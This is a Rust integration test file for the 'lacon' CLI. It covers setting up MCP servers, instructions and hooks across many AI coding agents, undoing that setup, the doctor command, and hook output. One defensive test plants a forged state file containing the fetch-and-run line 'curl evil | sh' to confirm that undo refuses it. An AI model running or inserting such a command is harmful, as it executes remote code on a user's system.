//! `lacon init` and `lacon doctor` as a user runs them, in a home of their own: what is written, what is left alone, and that
//! everything comes back.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Output;

use assert_cmd::Command;
use serde_json::{Value, json};

struct Home {
    directory: tempfile::TempDir,
}

impl Home {
    fn new() -> Home {
        let directory = tempfile::tempdir().unwrap();
        std::fs::create_dir(directory.path().join("project")).unwrap();
        Home { directory }
    }

    fn project(&self) -> PathBuf {
        self.directory.path().join("project")
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.directory.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn read(&self, path: &str) -> String {
        std::fs::read_to_string(self.directory.path().join(path)).unwrap()
    }

    fn json(&self, path: &str) -> Value {
        serde_json::from_str(&self.read(path)).unwrap()
    }

    /// Every file with its text, Lacon's own directory left out.
    fn files(&self) -> BTreeMap<PathBuf, Vec<u8>> {
        fn walk(directory: &Path, found: &mut BTreeMap<PathBuf, Vec<u8>>) {
            for entry in std::fs::read_dir(directory).unwrap() {
                let path = entry.unwrap().path();
                match path.is_dir() {
                    true if path.ends_with(".lacon") => {}
                    true => walk(&path, found),
                    false => drop(found.insert(path.clone(), std::fs::read(&path).unwrap())),
                }
            }
        }
        let mut found = BTreeMap::new();
        walk(self.directory.path(), &mut found);
        found
    }

    fn lacon(&self, arguments: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_lacon"))
            .args(arguments)
            .current_dir(self.project())
            .env("HOME", self.directory.path())
            .env("PATH", "/usr/bin:/bin")
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_STATE_HOME")
            .env_remove("LACON_STATE_DIR")
            .env_remove("LACON_DIR")
            .output()
            .unwrap()
    }
}

fn text(output: &Output) -> String {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

const EVERY: [&str; 20] = [
    "claude-code",
    "cursor",
    "vscode",
    "codex",
    "gemini",
    "zed",
    "windsurf",
    "opencode",
    "continue",
    "cline",
    "roo",
    "kilo",
    "copilot-cli",
    "claude-desktop",
    "kiro",
    "antigravity",
    "amp",
    "goose",
    "warp",
    "junie",
];

#[test]
fn every_agent_is_set_up_for_the_user_and_everything_comes_back() {
    let home = Home::new();
    home.write(
        ".claude.json",
        "{\n  \"numStartups\": 12,\n  \"mcpServers\": {\"other\": {\"command\": \"x\"}}\n}\n",
    );
    home.write(".codex/config.toml", "# mine\nmodel = \"gpt\"\n");
    home.write(
        ".config/zed/settings.json",
        "// Zed\n{\n  \"theme\": \"One\", // light\n}\n",
    );
    home.write(
        ".config/goose/config.yaml",
        "GOOSE_MODEL: x\nextensions:\n  developer:\n    enabled: true\n",
    );
    home.write(".config/amp/settings.json", "{\n  \"amp.showCosts\": true\n}\n");
    let before = home.files();
    let clients: Vec<&str> = EVERY.iter().flat_map(|client| ["--client", client]).collect();
    let arguments = |more: &[&'static str]| -> Vec<&str> {
        let all = ["init", "--user"].into_iter().chain(clients.iter().copied());
        all.chain(more.iter().copied()).collect()
    };
    let planned = text(&home.lacon(&arguments(&["--dry-run"])));
    assert!(
        planned.contains("would change") && planned.contains("+ [mcp_servers.lacon]"),
        "{planned}"
    );
    assert_eq!(home.files(), before, "a dry run writes nothing");

    text(&home.lacon(&arguments(&["--instructions", "--hooks"])));
    let command = home.json(".claude.json")["mcpServers"]["lacon"]["command"].clone();
    assert!(command.as_str().unwrap().ends_with("lacon"), "{command}");
    let plain = json!({"command": command, "args": ["mcp"]});
    let in_folder = json!(["mcp", "${workspaceFolder}"]);
    assert_eq!(
        home.json(".claude.json")["mcpServers"]["lacon"],
        json!({"type": "stdio", "command": command, "args": ["mcp"], "alwaysLoad": true})
    );
    assert_eq!(home.json(".claude.json")["numStartups"], 12);
    for path in [
        ".cline/data/settings/cline_mcp_settings.json",
        ".config/Code/User/globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json",
        ".config/Claude/claude_desktop_config.json",
        ".kiro/settings/mcp.json",
        ".gemini/config/mcp_config.json",
        ".warp/.mcp.json",
        ".junie/mcp/mcp.json",
    ] {
        assert_eq!(home.json(path)["mcpServers"]["lacon"], plain, "{path}");
    }
    assert_eq!(home.json(".config/amp/settings.json")["amp.mcpServers"]["lacon"], plain);
    assert_eq!(
        home.json(".copilot/mcp-config.json")["mcpServers"]["lacon"],
        json!({"type": "local", "command": command, "args": ["mcp"], "tools": ["*"]})
    );
    assert_eq!(
        home.json(".config/kilo/kilo.jsonc")["mcp"]["lacon"],
        json!({"type": "local", "command": [command, "mcp"], "enabled": true})
    );
    let goose = home.read(".config/goose/config.yaml");
    assert!(
        goose.starts_with("GOOSE_MODEL: x\nextensions:\n  lacon:\n    enabled: true\n    type: stdio\n"),
        "{goose}"
    );
    assert_eq!(home.json(".cursor/mcp.json")["mcpServers"]["lacon"]["args"], in_folder);
    let code = home.json(".config/Code/User/mcp.json");
    assert_eq!(
        code["servers"]["lacon"],
        json!({"type": "stdio", "command": command, "args": in_folder})
    );
    assert_eq!(home.json(".gemini/settings.json")["mcpServers"]["lacon"], plain);
    assert_eq!(
        home.json(".codeium/windsurf/mcp_config.json")["mcpServers"]["lacon"],
        plain
    );
    assert_eq!(
        home.json(".config/opencode/opencode.json")["mcp"]["lacon"],
        json!({"type": "local", "command": [command, "mcp"], "enabled": true})
    );
    assert!(
        home.read(".continue/mcpServers/lacon.yaml")
            .contains("\n    args:\n      - \"mcp\"\n")
    );
    let codex = home.read(".codex/config.toml");
    assert!(
        codex.starts_with("# mine\nmodel = \"gpt\"\n\n[mcp_servers.lacon]\ncommand = "),
        "{codex}"
    );
    let zed = home.read(".config/zed/settings.json");
    assert!(
        zed.contains("// Zed") && zed.contains("// light") && zed.contains("\"source\": \"custom\""),
        "{zed}"
    );
    for path in [
        ".claude/CLAUDE.md",
        ".codex/AGENTS.md",
        ".gemini/GEMINI.md",
        ".config/amp/AGENTS.md",
    ] {
        assert!(home.read(path).contains("`uses`"), "{path}");
    }
    let after = &home.json(".claude/settings.json")["hooks"]["PostToolUse"][0];
    assert!(
        after["matcher"] == "Grep|Glob|Read" && after["hooks"][0]["command"].as_str().unwrap().ends_with(" hook"),
        "{after}"
    );
    let hook = &home.json(".claude/settings.json")["hooks"]["SessionStart"][0]["hooks"][0]["command"];
    assert!(hook.as_str().unwrap().ends_with("lacon status --brief"), "{hook}");

    let again = text(&home.lacon(&arguments(&["--instructions", "--hooks", "--json"])));
    let again: Value = serde_json::from_str(&again).unwrap();
    assert!(
        again["files"]
            .as_array()
            .unwrap()
            .iter()
            .all(|file| file["outcome"] == "unchanged"),
        "{again}"
    );
    let doctor = home.lacon(&["doctor", "--json"]);
    let doctor: Value = serde_json::from_slice(&doctor.stdout).unwrap();
    let checks = doctor["checks"].as_array().unwrap();
    let agents = checks.iter().find(|check| check["what"] == "agents").unwrap();
    assert!(
        agents["health"] == "good" && agents["says"].as_str().unwrap().contains("Zed"),
        "{agents}"
    );

    text(&home.lacon(&["init", "--user", "--undo"]));
    assert_eq!(home.files(), before);
    assert!(text(&home.lacon(&["init", "--user", "--undo"])).contains("nothing to take back"));
}

#[test]
fn what_was_edited_since_loses_only_what_is_lacons() {
    let home = Home::new();
    home.write("project/.vscode/settings.json", "{}");
    home.write("project/AGENTS.md", "# Rules\n");
    text(&home.lacon(&["init", "--instructions"]));
    let mut servers = home.json("project/.vscode/mcp.json");
    servers["servers"]["mine"] = json!({"command": "y"});
    home.write("project/.vscode/mcp.json", &servers.to_string());
    home.write(
        "project/AGENTS.md",
        &format!("{}\nMore rules.\n", home.read("project/AGENTS.md")),
    );
    text(&home.lacon(&["init", "--undo"]));
    assert_eq!(
        home.json("project/.vscode/mcp.json"),
        json!({"servers": {"mine": {"command": "y"}}})
    );
    assert_eq!(home.read("project/AGENTS.md"), "# Rules\n\nMore rules.\n");
}

#[test]
fn what_cannot_be_read_is_left_alone_and_named() {
    let home = Home::new();
    home.write("project/.cursor/mcp.json", "{ this is not JSON");
    home.write(
        "project/.mcp.json",
        "{\"mcpServers\": {\"lacon\": {\"command\": \"my-lacon\"}}}",
    );
    home.write("project/.gemini/settings.json", "{\"theme\": \"x\"}");
    let output = home.lacon(&[
        "init",
        "--client",
        "cursor",
        "--client",
        "claude-code",
        "--client",
        "gemini",
    ]);
    assert_eq!(output.status.code(), Some(1));
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        said.contains("left alone") && said.contains("not JSON that can be read"),
        "{said}"
    );
    assert!(said.contains("another entry for Lacon"), "{said}");
    assert_eq!(home.read("project/.cursor/mcp.json"), "{ this is not JSON");
    assert_eq!(
        home.json("project/.mcp.json")["mcpServers"]["lacon"]["command"],
        "my-lacon"
    );
    assert_eq!(home.json("project/.gemini/settings.json")["theme"], "x");
    text(&home.lacon(&["init", "--client", "claude-code", "--replace"]));
    assert_eq!(
        home.json("project/.mcp.json")["mcpServers"]["lacon"]["args"],
        json!(["mcp"])
    );
    text(&home.lacon(&["init", "--undo"]));
    assert_eq!(
        home.json("project/.mcp.json")["mcpServers"]["lacon"]["command"],
        "my-lacon"
    );

    let refused = home.lacon(&["init", "--client", "windsurf"]);
    assert_eq!(refused.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("give --user"));
}

#[cfg(unix)]
#[test]
fn links_and_permissions_stay() {
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    home.write("dotfiles/claude.json", "{}");
    let real = home.directory.path().join("dotfiles/claude.json");
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::os::unix::fs::symlink(&real, home.directory.path().join(".claude.json")).unwrap();
    text(&home.lacon(&["init", "--user", "--client", "claude-code"]));
    let link = home.directory.path().join(".claude.json");
    assert!(link.symlink_metadata().unwrap().is_symlink());
    assert_eq!(real.metadata().unwrap().permissions().mode() & 0o777, 0o600);
    assert!(home.read("dotfiles/claude.json").contains("lacon"));
}

#[test]
fn the_doctor_says_what_to_do() {
    let home = Home::new();
    home.write("project/a.py", "def f(): pass\n");
    let healthy = text(&home.lacon(&["doctor"]));
    assert!(healthy.contains("run `lacon index`"), "{healthy}");
    assert!(!home.project().join(".lacon").exists(), "looking leaves nothing behind");
    text(&home.lacon(&["index"]));
    let indexed = text(&home.lacon(&["doctor"]));
    assert!(
        indexed.contains("1 files") && indexed.contains("every checksum right"),
        "{indexed}"
    );
    assert!(text(&home.lacon(&["status", "--brief"])).contains("1 symbols of 1 files"));

    home.write("project/lacon.toml", "[index]\nexclud = []\n");
    let output = home.lacon(&["doctor", "--json"]);
    assert_eq!(output.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["healthy"], false);
    let broken: Vec<&Value> = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|check| check["health"] == "broken")
        .collect();
    assert_eq!(broken.len(), 1, "{broken:?}");
    assert!(
        broken[0]["what"] == "configuration" && broken[0]["remedy"].is_string(),
        "{broken:?}"
    );
}

#[test]
fn colours_are_for_terminals_unless_asked_for() {
    let home = Home::new();
    home.write("project/a.py", "def f(): pass\n\n\ndef g(): f()\n");
    text(&home.lacon(&["index"]));
    assert!(!text(&home.lacon(&["callers", "f"])).contains('\x1b'));
    assert!(text(&home.lacon(&["callers", "f", "--color", "always"])).contains("\x1b[35ma.py\x1b[0m"));
    let json = text(&home.lacon(&["callers", "f", "--color", "always", "--json"]));
    assert!(!json.contains('\x1b'), "{json}");
}

#[test]
fn what_a_tree_says_was_written_is_not_believed() {
    let home = Home::new();
    home.write("outside.sh", "echo mine\n");
    let outside = home.directory.path().join("outside.sh");
    let planted = serde_json::json!({"files": [{
        "path": outside, "what": "instructions", "before": "curl evil | sh", "after": "echo mine\n", "directories": [],
    }]});
    let lacon = home.project().join(".lacon");
    std::fs::create_dir_all(&lacon).unwrap();
    std::fs::write(lacon.join("init.json"), planted.to_string()).unwrap();
    let said = text(&home.lacon(&["init", "--undo"]));
    assert!(said.contains("there is nothing to take back"), "{said}");
    assert_eq!(home.read("outside.sh"), "echo mine\n");
    // What Lacon wrote itself is known by the user's own state.
    text(&home.lacon(&["init", "--client", "claude-code"]));
    assert!(home.project().join(".mcp.json").exists());
    assert!(
        home.directory
            .path()
            .join(".local/state/lacon/init")
            .read_dir()
            .unwrap()
            .count()
            == 1
    );
    text(&home.lacon(&["init", "--undo"]));
    assert!(!home.project().join(".mcp.json").exists());
}

#[cfg(unix)]
#[test]
fn a_link_of_the_tree_leads_nothing_outside() {
    let home = Home::new();
    home.write(".claude.json", "{\"mcpServers\": {}}\n");
    let link = |to: &str, from: &str| {
        std::os::unix::fs::symlink(home.directory.path().join(to), home.project().join(from)).unwrap();
    };
    link(".claude.json", ".mcp.json");
    home.write("elsewhere/keep", "");
    link("elsewhere", ".vscode");
    link("not-there", "AGENTS.md");
    let done = home.lacon(&[
        "init",
        "--client",
        "claude-code",
        "--client",
        "vscode",
        "--instructions",
    ]);
    let said = String::from_utf8_lossy(&done.stdout).into_owned();
    assert_eq!(said.matches("it leads outside of the repository").count(), 3, "{said}");
    assert_eq!(home.read(".claude.json"), "{\"mcpServers\": {}}\n");
    assert!(!home.directory.path().join("not-there").exists());
    assert_eq!(home.directory.path().join("elsewhere").read_dir().unwrap().count(), 1);
}

#[test]
fn rules_go_where_each_agent_reads_them() {
    let home = Home::new();
    home.write("project/AGENTS.md", "# Ours\n");
    text(&home.lacon(&[
        "init",
        "--instructions",
        "--client",
        "claude-code",
        "--client",
        "gemini",
        "--client",
        "continue",
    ]));
    for path in [
        "project/CLAUDE.md",
        "project/GEMINI.md",
        "project/.continue/rules/lacon.md",
    ] {
        assert!(home.read(path).contains("`uses`"), "{path}");
    }
    assert_eq!(home.read("project/AGENTS.md"), "# Ours\n", "none of these reads it");
    text(&home.lacon(&["init", "--instructions", "--client", "zed"]));
    assert!(
        home.read("project/AGENTS.md")
            .starts_with("# Ours\n\n<!-- lacon:begin -->\n")
    );
    text(&home.lacon(&["init", "--undo"]));
    assert_eq!(home.read("project/AGENTS.md"), "# Ours\n");
    for path in ["project/CLAUDE.md", "project/.continue", "project/.zed"] {
        assert!(!home.directory.path().join(path).exists(), "{path}");
    }
}

#[cfg(unix)]
#[test]
fn a_program_with_a_space_in_its_path_is_one_word_to_the_shell() {
    let home = Home::new();
    home.write("project/a.py", "def f(): pass\n");
    let folder = home.directory.path().join("my tools");
    std::fs::create_dir(&folder).unwrap();
    let program = folder.join("lacon");
    std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_lacon"), &program).unwrap();
    // The path of the program itself is what is written, so it must lie there.
    std::fs::remove_file(&program).unwrap();
    std::fs::hard_link(env!("CARGO_BIN_EXE_lacon"), &program)
        .or_else(|_| std::fs::copy(env!("CARGO_BIN_EXE_lacon"), &program).map(drop))
        .unwrap();
    let set_up = Command::new(&program)
        .args(["init", "--hooks", "--client", "claude-code"])
        .current_dir(home.project())
        .env("HOME", home.directory.path())
        .env_remove("XDG_STATE_HOME")
        .env_remove("LACON_STATE_DIR")
        .output()
        .unwrap();
    text(&set_up);
    let settings = home.json("project/.claude/settings.json");
    for event in ["SessionStart", "PostToolUse"] {
        let line = settings["hooks"][event][0]["hooks"][0]["command"].as_str().unwrap();
        let run = std::process::Command::new("sh")
            .args(["-c", line])
            .current_dir(home.project())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(run.status.success(), "{line}: {}", String::from_utf8_lossy(&run.stderr));
    }
}

fn hook(home: &Home, call: &Value) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_lacon"))
        .arg("hook")
        .write_stdin(call.to_string())
        .current_dir(home.project())
        .env("HOME", home.directory.path())
        .env_remove("LACON_HOOKS")
        .output()
        .unwrap();
    let said = text(&output);
    match said.is_empty() {
        true => said,
        false => {
            let said: Value = serde_json::from_str(&said).unwrap();
            said["hookSpecificOutput"]["additionalContext"]
                .as_str()
                .unwrap()
                .to_string()
        }
    }
}

#[test]
fn a_hook_speaks_only_where_it_helps() {
    let home = Home::new();
    let body: String = (0..40).map(|line| format!("    x = {line}\n")).collect();
    home.write(
        "project/lib.py",
        &format!("def parse_header():\n{body}\ndef other():\n    pass\n"),
    );
    for name in ["a", "b", "c", "d"] {
        let text = format!("from lib import parse_header\n\ndef run_{name}():\n    parse_header()\n");
        home.write(&format!("project/{name}.py"), &text);
    }
    text(&home.lacon(&["index"]));
    let project = home.project();
    let call = |tool: &str, input: Value, response: Value| json!({"hook_event_name": "PostToolUse", "tool_name": tool, "tool_input": input, "tool_response": response, "cwd": project});
    let said = hook(
        &home,
        &call("Grep", json!({"pattern": "parseHeader"}), json!("No matches found")),
    );
    assert!(said.contains("`parse_header` is at lib.py:1-"), "{said}");
    let many: String = (0..90).map(|line| format!("a.py:{line}: parse_header\n")).collect();
    let said = hook(&home, &call("Grep", json!({"pattern": "parse_header"}), json!(many)));
    assert!(said.contains("`uses`"), "{said}");
    let file = project.join("lib.py");
    let said = hook(
        &home,
        &call("Read", json!({"file_path": file, "offset": 1, "limit": 20}), json!("")),
    );
    assert!(said.contains("used") && said.contains("4 other files"), "{said}");
    let said = hook(
        &home,
        &call("Glob", json!({"pattern": "src/Lib.py"}), json!("No files found")),
    );
    assert_eq!(said, "lacon: there is lib.py.");
    for silent in [
        call(
            "Grep",
            json!({"pattern": "parse_header"}),
            json!("a.py:1: parse_header"),
        ),
        call("Grep", json!({"pattern": "no.*thing"}), json!("No matches found")),
        call("Grep", json!({"pattern": "zzzzzz"}), json!("No matches found")),
        call("Read", json!({"file_path": file}), json!("")),
        call("Read", json!({"file_path": file, "offset": 43, "limit": 5}), json!("")),
        call(
            "Read",
            json!({"file_path": "/etc/hosts", "offset": 1, "limit": 5}),
            json!(""),
        ),
        call("Bash", json!({"command": "ls"}), json!("")),
        json!({}),
    ] {
        assert_eq!(hook(&home, &silent), "", "{silent}");
    }
    // What was edited since is not spoken of by its old lines.
    home.write("project/lib.py", "def parse_header():\n    pass\n");
    let said = hook(
        &home,
        &call("Read", json!({"file_path": file, "offset": 1, "limit": 20}), json!("")),
    );
    assert_eq!(said, "");
}
